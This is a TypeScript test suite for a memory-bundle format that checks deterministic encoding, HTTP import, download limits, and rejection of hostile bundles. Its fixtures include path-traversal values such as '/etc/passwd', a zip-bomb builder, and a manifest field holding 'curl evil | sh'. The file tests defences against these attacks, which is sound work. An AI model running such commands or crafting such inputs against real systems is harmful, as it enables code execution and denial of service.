/**
 * Memory bundles (model/bundle/, docs/team-memory.md) through the engine with the tiny model on the CPU: the
 * same workspace gives the same bytes; a bundle served by a real loopback HTTP server and imported into a
 * changed workspace equals a local incremental read of that workspace (the state bitwise, the manifest, the
 * index, an answer); hostile bundles are refused, each for its reason, with nothing on disk changed; and the
 * download rules (schemes, redirects, size cap, time limit).
 */
import { strict as assert } from 'node:assert';
import { createHash } from 'node:crypto';
import { promises as fs } from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import { deflateRawSync } from 'node:zlib';
import { after, before, describe, it } from 'node:test';
import {
  BUNDLE_LIMITS,
  BundleError,
  encodeBundle,
  fetchBundle,
  parseSource,
  readBundleLayout,
  verifyBundle,
  type BundleManifest,
} from '../../model/bundle';
import { EngineClient, type EngineStream } from '../../model/engine/client';
import { serveEngine } from '../../model/engine/dispatch';
import { Engine } from '../../model/engine/engine';
import { createInProcessPair } from '../../model/engine/messenger';
import { EngineError, MEMORY_FILES, type ImportResult } from '../../model/engine/protocol';
import { decodeIndexFile } from '../../model/index';
import { PREFIX_BYTES, SEAL_BYTES, seal } from '../../model/state/container';
import { decodeState, encodeState, readStateFile } from '../../model/state';

const TINY = path.resolve(__dirname, '../fixtures/tiny');
const SAMPLE = path.resolve(__dirname, '../../samples/demo-workspace');

let tmp: string;
let client: EngineClient;

before(async () => {
  tmp = await fs.mkdtemp(path.join(os.tmpdir(), 'famulus-bundle-'));
  process.env.FAMULUS_KEY_FILE = path.join(tmp, 'user.key');
  const [clientEnd, engineEnd] = createInProcessPair();
  serveEngine(engineEnd, new Engine().handlers);
  client = new EngineClient(clientEnd);
  await client.request('engine/loadModel', { modelDir: TINY, device: 'cpu', threads: 1 });
});

after(async () => {
  await fs.rm(tmp, { recursive: true, force: true });
});

async function drain<C, F>(stream: EngineStream<C, F>): Promise<F> {
  for await (const _ of stream) void _;
  return stream.result;
}

async function copy(name: string): Promise<string> {
  const dir = path.join(tmp, name);
  await fs.cp(SAMPLE, dir, { recursive: true });
  return dir;
}

/** The local changes a "laptop" has on top of the commit: one file changed, one added, one deleted. */
async function change(root: string): Promise<void> {
  await fs.appendFile(path.join(root, 'src/queue.ts'), '\nexport const laptopOnly = 42;\n');
  await fs.writeFile(path.join(root, 'src/new-module.ts'), 'export function freshlyAdded(): number {\n  return 7;\n}\n');
  const victims = (await fs.readdir(path.join(root, 'src'))).filter((n) => n !== 'queue.ts' && n !== 'new-module.ts').sort();
  await fs.rm(path.join(root, 'src', victims[0]!));
}

/** CI: a fresh read of `root` written as a bundle. */
async function ciBundle(root: string, file: string, commit = 'abc1234def5678'): Promise<Uint8Array> {
  await drain(client.stream('workspace/open', { root, memoryDir: path.join(root, '..', `${path.basename(root)}-mem`), mode: 'fresh' }));
  await client.request('workspace/bundle', { file, commit });
  return new Uint8Array(await fs.readFile(file));
}

/** Every file under `dir` with its bytes' hash and mtime: what "nothing on disk changed" compares. */
async function snapshotTree(dir: string): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  const walk = async (d: string): Promise<void> => {
    for (const e of await fs.readdir(d, { withFileTypes: true }).catch(() => [])) {
      const p = path.join(d, e.name);
      if (e.isDirectory()) await walk(p);
      else {
        const st = await fs.stat(p);
        out[path.relative(dir, p)] = `${createHash('sha256').update(await fs.readFile(p)).digest('hex')} ${st.mtimeMs} ${st.size}`;
      }
    }
  };
  await walk(dir);
  return out;
}

let bundleBytes: Uint8Array;
let bundleFile: string;

describe('memory bundles', () => {
  it('the same workspace gives the same bytes, wherever it is read', async () => {
    bundleFile = path.join(tmp, 'ci.famb');
    bundleBytes = await ciBundle(await copy('ci'), bundleFile);
    const again = await ciBundle(await copy('ci-elsewhere'), path.join(tmp, 'again.famb'));
    assert.ok(Buffer.from(again).equals(Buffer.from(bundleBytes)), 'byte for byte');
    const layout = readBundleLayout(bundleBytes, 'ci.famb');
    assert.equal(layout.manifest.commit, 'abc1234def5678');
    assert.ok(layout.manifest.files.length >= 10);
    assert.equal(layout.manifest.files.at(-1)!.start + layout.manifest.files.at(-1)!.tokens, layout.manifest.tokens);
    assert.ok(!new TextDecoder().decode(bundleBytes).includes(tmp), 'no local path in it');
  });

  it('served over loopback HTTP and imported, equals a local incremental read (state bitwise, index, answer)', async () => {
    const server = http.createServer((req, res) => {
      if (req.url === '/bundles/abc1234def5678.famb') res.end(Buffer.from(bundleBytes));
      else res.writeHead(404).end();
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const port = (server.address() as AddressInfo).port;
    try {
      // The reference: a laptop that read the commit itself, then its changes incrementally.
      const local = await copy('local');
      const localMem = path.join(tmp, 'local-mem');
      await drain(client.stream('workspace/open', { root: local, memoryDir: localMem }));
      await change(local);
      await drain(client.stream('workspace/open', { root: local, memoryDir: localMem }));

      const laptop = await copy('laptop');
      await change(laptop);
      const laptopMem = path.join(tmp, 'laptop-mem');
      const result = (await drain(
        client.stream('workspace/import', { root: laptop, memoryDir: laptopMem, source: `http://127.0.0.1:${port}/bundles/abc1234def5678.famb` }),
      )) as ImportResult;
      assert.equal(result.bundle.commit, 'abc1234def5678');
      assert.equal(result.read?.filesIngested, 2, 'the changed and the new file');
      assert.equal(result.state?.origin?.localChanges, 3, 'changed, new, deleted');
      assert.ok(result.saved, 'saved');
      // Answers from each saved memory, as the next run of the CLI (or the next window) would give them.
      const answerFrom = async (root: string, memoryDir: string) => {
        const [c, e] = createInProcessPair();
        serveEngine(e, new Engine().handlers);
        const fresh = new EngineClient(c);
        await fresh.request('engine/loadModel', { modelDir: TINY, device: 'cpu', threads: 1 });
        await drain(fresh.stream('workspace/open', { root, memoryDir, mode: 'restore' }));
        const chunks: string[] = [];
        const stream = fresh.stream('engine/ask', { question: 'How are failed jobs retried?', options: { maxNewTokens: 8 } });
        for await (const d of stream) chunks.push(d.text);
        return { text: chunks.join(''), result: await stream.result };
      };
      const localAnswer = await answerFrom(local, localMem);
      const importAnswer = await answerFrom(laptop, laptopMem);

      const a = await readStateFile(path.join(localMem, MEMORY_FILES.state));
      const b = await readStateFile(path.join(laptopMem, MEMORY_FILES.state));
      assert.equal(b.blocks, a.blocks);
      assert.deepEqual([...b.pending], [...a.pending]);
      for (const k of ['fam', 'memK', 'memV'] as const) {
        a[k].forEach((arr, l) => assert.ok(Buffer.from(arr.buffer, arr.byteOffset, arr.byteLength).equals(Buffer.from(b[k][l]!.buffer, b[k][l]!.byteOffset, b[k][l]!.byteLength)), `${k}[${l}] bitwise`));
      }
      const files = (s: typeof a) => (s.meta['famulus.workspace'] as { files: unknown[] }).files;
      assert.deepEqual(files(b), files(a), 'the same readings in the same order');
      const indexBody = async (root: string, mem: string) => {
        const bytes = await fs.readFile(path.join(mem, MEMORY_FILES.index));
        const header = JSON.parse(bytes.subarray(12, 12 + bytes.readUInt32LE(8)).toString()) as { modelId: string; walkerKey: string };
        return decodeIndexFile(bytes, { modelId: header.modelId, walkerKey: header.walkerKey, root });
      };
      assert.deepEqual(await indexBody(laptop, laptopMem), await indexBody(local, localMem));
      assert.equal(importAnswer.text, localAnswer.text);
      assert.deepEqual(importAnswer.result.grounding.sources, localAnswer.result.grounding.sources);

      // A missing bundle is 'bundle-unavailable', and says so.
      await assert.rejects(
        drain(client.stream('workspace/import', { root: laptop, memoryDir: laptopMem, source: `http://127.0.0.1:${port}/bundles/0000000.famb` })),
        (e: EngineError) => e.code === 'bundle-unavailable' && /HTTP 404/.test(e.message),
      );
    } finally {
      server.close();
    }
  });

  describe('hostile bundles are refused, each for its reason, and nothing on disk changes', () => {
    const layout = () => readBundleLayout(bundleBytes, 'ci.famb');
    /** Re-encodes with a changed manifest (checksums made valid again: only the content check can refuse it). */
    const withManifest = (edit: (m: BundleManifest) => void): Uint8Array => {
      const l = layout();
      const m = structuredClone(l.manifest);
      edit(m);
      return encodeBundle({ manifest: m, state: l.state, index: l.index });
    };
    /** Rewrites the raw manifest JSON (and the seal) without the encoder's normalisation. */
    const rawManifest = (edit: (m: Record<string, unknown>) => void): Uint8Array => {
      const l = layout();
      const m = structuredClone(l.manifest) as unknown as Record<string, unknown>;
      edit(m);
      const header = new TextEncoder().encode(JSON.stringify(m));
      const end = PREFIX_BYTES + header.length + l.state.length + l.index.length;
      const out = new Uint8Array(end + SEAL_BYTES);
      out.set(bundleBytes.subarray(0, 8));
      new DataView(out.buffer).setUint32(8, header.length, true);
      out.set(header, PREFIX_BYTES);
      out.set(l.state, PREFIX_BYTES + header.length);
      out.set(l.index, PREFIX_BYTES + header.length + l.state.length);
      seal(out, end, 'unkeyed');
      return out;
    };
    const withState = (edit: (s: ReturnType<typeof decodeState>) => void): Uint8Array => {
      const l = layout();
      const snap = decodeState(l.state, undefined, undefined, 'unkeyed');
      edit(snap);
      return encodeBundle({ manifest: l.manifest, state: encodeState(snap, 'unkeyed'), index: l.index });
    };
    const flip = (at: (b: Uint8Array) => number): Uint8Array => {
      const b = new Uint8Array(bundleBytes);
      b[at(b)]! ^= 0x40;
      return b;
    };
    const bomb = (): Uint8Array => {
      // An index section whose body inflates to 16 MB (checked against a 1 MB cap below), checksums valid.
      const l = layout();
      const body = deflateRawSync(Buffer.alloc(16 * 1024 * 1024, 0x20));
      const ix = l.index;
      const headerLen = new DataView(ix.buffer, ix.byteOffset).getUint32(8, true);
      const header = JSON.parse(new TextDecoder().decode(ix.subarray(12, 12 + headerLen)));
      header.bodyBytes = body.length;
      const hb = new TextEncoder().encode(JSON.stringify(header));
      const end = PREFIX_BYTES + hb.length + body.length;
      const out = new Uint8Array(end + SEAL_BYTES);
      out.set(ix.subarray(0, 8));
      new DataView(out.buffer).setUint32(8, hb.length, true);
      out.set(hb, PREFIX_BYTES);
      out.set(body, PREFIX_BYTES + hb.length);
      seal(out, end, 'unkeyed');
      return encodeBundle({ manifest: l.manifest, state: l.state, index: out });
    };

    const cases: Array<[string, RegExp, () => Uint8Array | Promise<Uint8Array>]> = [
      ['a flipped byte in the state section', /checksum/, () => flip((b) => b.length - 2000)],
      ['a flipped byte in the manifest', /checksum|manifest/, () => flip(() => 40)],
      ['the last byte of the checksum changed', /checksum/, () => flip((b) => b.length - 1)],
      ['truncated to half', /truncated|bytes, the manifest describes|runs past/, () => bundleBytes.slice(0, bundleBytes.length >> 1)],
      ['truncated to 10 bytes', /shorter than any/, () => bundleBytes.slice(0, 10)],
      ['an empty file', /shorter than any/, () => new Uint8Array(0)],
      ['not a bundle (a state file)', /not a Famulus memory bundle/, () => layout().state.slice()],
      ['a newer bundle format', /newer engine/, () => { const b = new Uint8Array(bundleBytes); new DataView(b.buffer).setUint32(4, 2, true); return b; }],
      ['a newer state format in the manifest', /state is in format 3.*newer/, () => rawManifest((m) => (m.stateFormat = 3))],
      ['another model', /made with model/, () => withManifest((m) => (m.modelId = 'f'.repeat(64)))],
      ['another tokenizer', /tokenizer/, () => withManifest((m) => (m.tokenizerSha256 = '0'.repeat(64)))],
      ['an absolute path', /is absolute/, () => withManifest((m) => (m.files[0]!.path = '/etc/passwd'))],
      ['a path that climbs out', /leads out/, () => withManifest((m) => (m.files[0]!.path = '../outside.ts'))],
      ['a path that climbs out in the middle', /leads out/, () => withManifest((m) => (m.files[1]!.path = 'src/../../x.ts'))],
      ['a Windows drive path', /drive/, () => withManifest((m) => (m.files[0]!.path = 'C:\\Windows\\x'))],
      ['a backslash path', /backslash/, () => withManifest((m) => (m.files[0]!.path = 'src\\..\\..\\x'))],
      ['token spans that do not add up', /starts at token/, () => withManifest((m) => (m.files[1]!.start += 1))],
      ['a manifest that counts other tokens than the state holds', /tokens/, () => withManifest((m) => { m.files.at(-1)!.tokens += 1; m.tokens += 1; })],
      ['a section size over the cap', /more than the .* allowed/, () => rawManifest((m) => ((m.sections as BundleManifest['sections']).state.bytes = 10 * 1024 ** 3))],
      ['an unknown manifest field', /unknown field/, () => rawManifest((m) => (m.run = 'curl evil | sh'))],
      ['a NaN in the state', /not a finite number/, () => withState((s) => ((s.fam[0] as Float32Array)[0] = Number.NaN))],
      ['an index that lists a file the manifest does not', /its index holds/, () => withManifest((m) => (m.files.at(-1)!.sha256 = 'a'.repeat(64)))],
      ['an index section that inflates far past its cap (zip bomb)', /inflated|larger than/, bomb],
    ];

    for (const [name, message, make] of cases) {
      it(name, async () => {
        const root = path.join(tmp, 'victim');
        const memoryDir = path.join(tmp, 'victim-mem');
        if (!(await fs.stat(root).catch(() => null))) {
          await fs.cp(SAMPLE, root, { recursive: true });
          await drain(client.stream('workspace/open', { root, memoryDir }));
        }
        const file = path.join(tmp, 'hostile.famb');
        await fs.writeFile(file, await make());
        const before = { ws: await snapshotTree(root), mem: await snapshotTree(memoryDir) };
        await assert.rejects(drain(client.stream('workspace/import', { root, memoryDir, source: file })), (e: EngineError) => {
          assert.equal(e.code, 'bundle-rejected', e.message);
          assert.match(e.message, message);
          return true;
        });
        assert.deepEqual({ ws: await snapshotTree(root), mem: await snapshotTree(memoryDir) }, before, 'nothing on disk changed');
      });
    }
  });

  it('a bomb within the 64-fold inflation bound is still stopped at the absolute cap', () => {
    const l = readBundleLayout(bundleBytes, 'ci.famb');
    const small = { ...BUNDLE_LIMITS, indexInflatedBytes: 64 };
    assert.throws(() => verifyBundle(bundleBytes, 'ci.famb', expectationsOf(), small), (e: BundleError) => e.reason === 'too-large');
    assert.ok(l.index.length > 64);
  });

  describe('where bundles come from', () => {
    it('https anywhere, http only from this machine, no other scheme, no credentials', () => {
      assert.equal(parseSource('https://ci.example.com/b.famb').kind, 'url');
      assert.equal(parseSource('http://127.0.0.1:8080/b.famb').kind, 'url');
      assert.equal(parseSource('http://localhost/b.famb').kind, 'url');
      assert.equal(parseSource('bundles/b.famb', '/w').kind, 'file');
      for (const bad of ['http://ci.example.com/b.famb', 'ftp://x/b', 'file:///etc/passwd', 'https://u:p@ci.example.com/b']) {
        assert.throws(() => parseSource(bad), BundleError, bad);
      }
    });

    it('refuses a redirect to another scheme, a body over the cap, and a server that never finishes', async () => {
      const server = http.createServer((req, res) => {
        if (req.url === '/redirect') res.writeHead(302, { location: 'ftp://127.0.0.1/b' }).end();
        else if (req.url === '/big') res.writeHead(200, { 'content-length': String(10 * 1024 * 1024) }).end();
        else if (req.url === '/stream') {
          res.writeHead(200);
          res.write(Buffer.alloc(600 * 1024));
          res.write(Buffer.alloc(600 * 1024));
        } else if (req.url === '/slow') res.writeHead(200).write('x');
        else res.end('ok');
      });
      await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
      const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
      try {
        const get = (p: string, timeoutMs = 5000) => fetchBundle(new URL(base + p), { maxBytes: 1024 * 1024, timeoutMs });
        await assert.rejects(get('/redirect'), /redirect from http: to ftp: is not followed/);
        await assert.rejects(get('/big'), (e: BundleError) => e.reason === 'too-large');
        await assert.rejects(get('/stream'), (e: BundleError) => e.reason === 'too-large');
        await assert.rejects(get('/slow', 300), /within 0.3 s/);
        assert.equal(new TextDecoder().decode(await get('/ok')), 'ok');
      } finally {
        server.closeAllConnections();
        server.close();
      }
    });
  });
});

function expectationsOf() {
  const m = readBundleLayout(bundleBytes, 'ci.famb').manifest;
  const s = decodeState(readBundleLayout(bundleBytes, 'ci.famb').state, undefined, undefined, 'unkeyed');
  return {
    modelId: m.modelId,
    vocabSize: 1 << 20,
    tokenizerSha256: m.tokenizerSha256,
    dims: { layers: s.layers, famLength: s.famLength, hiddenSize: s.hiddenSize, memSlots: s.memSlots, kvDim: s.kvDim, blockSize: s.blockSize },
  };
}
